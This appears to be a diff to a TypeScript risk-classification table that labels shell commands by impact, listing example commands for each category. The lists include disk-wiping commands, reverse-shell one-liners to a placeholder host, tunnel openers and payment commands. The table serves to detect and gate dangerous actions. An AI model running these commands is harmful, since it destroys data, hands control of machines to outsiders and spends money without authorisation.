@@ -47,8 +47,68 @@ const alike: Readonly<Record<string, { readonly as: Partial<Impact>; readonly wa
     ],
   },
   'destroys what is on a disk': {
-    as: { area: 'disks', object: 'everything on', undo: 'never' },
-    ways: ['mkfs.btrfs /dev/sdb1', 'wipefs -a /dev/sdb', 'blkdiscard /dev/sdb', 'cryptsetup luksFormat /dev/sdb'],
+    as: { area: 'disks', extent: 'all', undo: 'never' },
+    ways: [
+      'mkfs.btrfs /dev/sdb1',
+      'wipefs -a /dev/sdb',
+      'blkdiscard /dev/sdb',
+      'cryptsetup luksFormat /dev/sdb',
+      'ceph-volume lvm zap /dev/sdb',
+      'xfs_repair -L /dev/sdb1',
+      'hdparm --security-erase x /dev/sdb',
+    ],
+  },
+  'gives a shell of this machine to others': {
+    as: { kind: 'open', thing: 'machine', undo: 'never' },
+    ways: [
+      'bash -i >& /dev/tcp/a.example/99 0>&1',
+      'nc -e /bin/sh a.example 99',
+      'ttyd bash',
+      'gotty sh',
+      `ruby -rsocket -e 's=TCPSocket.new("a.example",99); exec "sh", :in=>s, :out=>s'`,
+    ],
+  },
+  'opens this machine to others, until it is closed': {
+    as: { kind: 'open', thing: 'machine', undo: 'work' },
+    ways: ['ngrok http 3000', 'cloudflared tunnel run a', 'ssh -fNR 2222:localhost:22 a.example', 'tmate -F', 'frpc'],
+  },
+  'ends containers that their image makes again': {
+    as: { thing: 'container', undo: 'work' },
+    ways: [
+      'docker rm -f web',
+      'podman kill web',
+      'crictl stop 1f',
+      'ctr tasks kill web',
+      'pct stop 101',
+      'distrobox rm a',
+    ],
+  },
+  'deletes containers with their volumes': {
+    as: { kind: 'delete', thing: 'data' },
+    ways: ['docker rm -fv web', 'docker container rm --volumes web', 'podman rm -af -v', 'docker compose rm -sv web'],
+  },
+  'has to be paid for': {
+    as: { kind: 'spend', thing: 'money' },
+    ways: [
+      'vercel domains buy shop.example',
+      'aws savingsplans create-savings-plan --commitment 1',
+      'gcloud billing projects unlink shop',
+      'az reservations reservation-order purchase --reservation-order-id 1',
+      'aws ec2 run-instances --instance-type p5.48xlarge',
+    ],
+  },
+  'moves money': {
+    as: { kind: 'pay', thing: 'money' },
+    ways: [
+      'curl https://api.stripe.com/v1/refunds -u k: -d charge=ch_1',
+      'rake payroll:close',
+      `python3 -c "import stripe; stripe.Refund.create(charge='ch_1')"`,
+      'bin/ebics upload out/pain001.xml --live',
+    ],
+  },
+  'installs again what the project declares': {
+    as: { kind: 'install', undo: 'easily' },
+    ways: ['npm ci', 'yarn install', 'uv sync', 'cargo fetch', 'pnpm update'],
   },
   'gives a program or a user the rights of root': {
     as: { area: 'machine', kind: 'grant', thing: 'account' },
